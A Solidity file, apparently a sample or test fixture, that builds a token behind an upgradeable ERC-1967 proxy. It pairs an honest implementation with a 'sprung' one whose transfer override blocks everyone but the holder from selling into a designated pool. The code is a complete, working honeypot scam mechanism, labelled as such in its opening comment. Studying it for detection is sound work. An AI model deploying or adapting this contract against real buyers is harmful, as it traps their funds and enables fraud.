// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// A plain token behind an ERC-1967 proxy whose admin has put another implementation in its place, one that lets nobody sell.
contract SprungProxy {
    bytes32 private constant IMPLEMENTATION = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    bytes32 private constant ADMIN = 0xb53127684a568b3173ae13b9f8a6016e243e63b6e8ee1178d6a717850b5d6103;
    event Upgraded(address indexed implementation);
    event AdminChanged(address previousAdmin, address newAdmin);
    constructor(address implementation, bytes memory data) {
        address sender = msg.sender;
        assembly { sstore(IMPLEMENTATION, implementation) sstore(ADMIN, sender) }
        emit Upgraded(implementation);
        emit AdminChanged(address(0), sender);
        (bool ok, ) = implementation.delegatecall(data);
        require(ok, "init");
    }
    function upgradeTo(address implementation) external {
        address admin;
        assembly { admin := sload(ADMIN) }
        if (msg.sender != admin) _forward();
        assembly { sstore(IMPLEMENTATION, implementation) }
        emit Upgraded(implementation);
    }
    fallback() external payable { _forward(); }
    receive() external payable { _forward(); }
    function _forward() private {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(IMPLEMENTATION), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if ok { return(0, returndatasize()) }
            revert(0, returndatasize())
        }
    }
}

abstract contract Logic {
    string public name;
    string public symbol;
    uint256 public totalSupply;
    address public pool;
    address internal _holder;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    function initialize(address holder) external {
        require(totalSupply == 0, "initialized");
        (name, symbol, totalSupply, _holder) = ("Bridge Token", "BRDG", 1_000_000 ether, holder);
        balanceOf[holder] = totalSupply;
        emit Transfer(address(0), holder, totalSupply);
    }
    function decimals() external pure returns (uint8) { return 18; }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }
    function _transfer(address from, address to, uint256 value) internal virtual {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

contract HonestLogic is Logic {}

contract SprungLogic is Logic {
    function setPool(address to) external { require(msg.sender == _holder); pool = to; }
    function _transfer(address from, address to, uint256 value) internal override {
        require(to != pool || from == _holder, "closed");
        super._transfer(from, to, value);
    }
}
